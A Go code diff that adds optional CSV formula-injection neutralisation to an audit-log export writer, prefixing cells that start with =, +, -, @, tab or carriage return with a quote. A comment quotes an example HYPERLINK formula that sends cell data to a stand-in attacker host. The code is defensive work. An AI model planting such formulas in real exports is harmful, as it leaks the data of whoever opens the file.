@@ -28,6 +28,23 @@ var ExportFields = []string{"seq", "at", "actor", "db_role", "action", "project"
 // and sorts as text.
 const ExportTimeLayout = "2006-01-02T15:04:05.000000Z07:00"
 
+// CSVFormulas says what a CSV export does with a cell that a spreadsheet
+// would take for a formula: one starting with =, +, -, @, a tab or a
+// carriage return. Any text may reach a cell (an actor is whatever the
+// user configured), so =HYPERLINK("http://evil.example/?x="&A1,"x") would
+// run in whoever opens the file.
+type CSVFormulas int
+
+const (
+	// KeepFormulas writes every cell as stored, byte for byte: what the
+	// chain MAC covers and what tools compare.
+	KeepFormulas CSVFormulas = iota
+	// NeutraliseFormulas prefixes such a cell with a single quote, as
+	// OWASP advises against CSV injection, so a spreadsheet shows it as
+	// text; the quoting stays RFC 4180.
+	NeutraliseFormulas
+)
+
 // ExportWriter writes events one at a time in an export format, in
 // constant memory. Close flushes; it does not close the underlying writer.
 type ExportWriter interface {
@@ -36,13 +53,14 @@ type ExportWriter interface {
 }
 
 // NewExportWriter returns a writer for format (FormatJSONL or FormatCSV).
-// A CSV export starts with its header row.
-func NewExportWriter(w io.Writer, format string) (ExportWriter, error) {
+// A CSV export starts with its header row, and treats formulas as
+// formulas says; JSON lines always hold the exact text.
+func NewExportWriter(w io.Writer, format string, formulas CSVFormulas) (ExportWriter, error) {
 	switch format {
 	case FormatJSONL:
 		return &jsonlWriter{w: bufio.NewWriterSize(w, 64<<10)}, nil
 	case FormatCSV:
-		c := &csvWriter{w: bufio.NewWriterSize(w, 64<<10)}
+		c := &csvWriter{w: bufio.NewWriterSize(w, 64<<10), neutralise: formulas == NeutraliseFormulas}
 		b := c.buf[:0]
 		for i, f := range ExportFields {
 			if i > 0 {
@@ -180,8 +198,9 @@ func appendJSONString(b []byte, s string) []byte {
 // buffer like jsonlWriter: encoding/csv allocates a record and its fields
 // for every event, which made CSV exports markedly slower than JSON lines.
 type csvWriter struct {
-	w   *bufio.Writer
-	buf []byte
+	w          *bufio.Writer
+	buf        []byte
+	neutralise bool
 }
 
 func (c *csvWriter) Write(e *Event) error {
@@ -190,6 +209,10 @@ func (c *csvWriter) Write(e *Event) error {
 	b = e.At.UTC().AppendFormat(b, ExportTimeLayout)
 	for _, f := range [...]string{e.Actor, e.DBRole, e.Action, e.Project, e.Subject, e.Details, e.MACKID, e.PrevMAC, e.MAC} {
 		b = append(b, ',')
+		if c.neutralise && startsFormula(f) {
+			// The copy is rare: stored text seldom starts so.
+			f = "'" + f
+		}
 		b = appendCSVField(b, f)
 	}
 	c.buf = append(b, '\n')
@@ -204,6 +227,12 @@ func (c *csvWriter) Close() error {
 		return fmt.Errorf("write audit export: %w", err)
 	}
 	return nil
+}
+
+// startsFormula reports whether a spreadsheet would read the cell s as a
+// formula (OWASP's list).
+func startsFormula(s string) bool {
+	return s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0
 }
 
 // appendCSVField appends s as encoding/csv writes a field: quoted, with
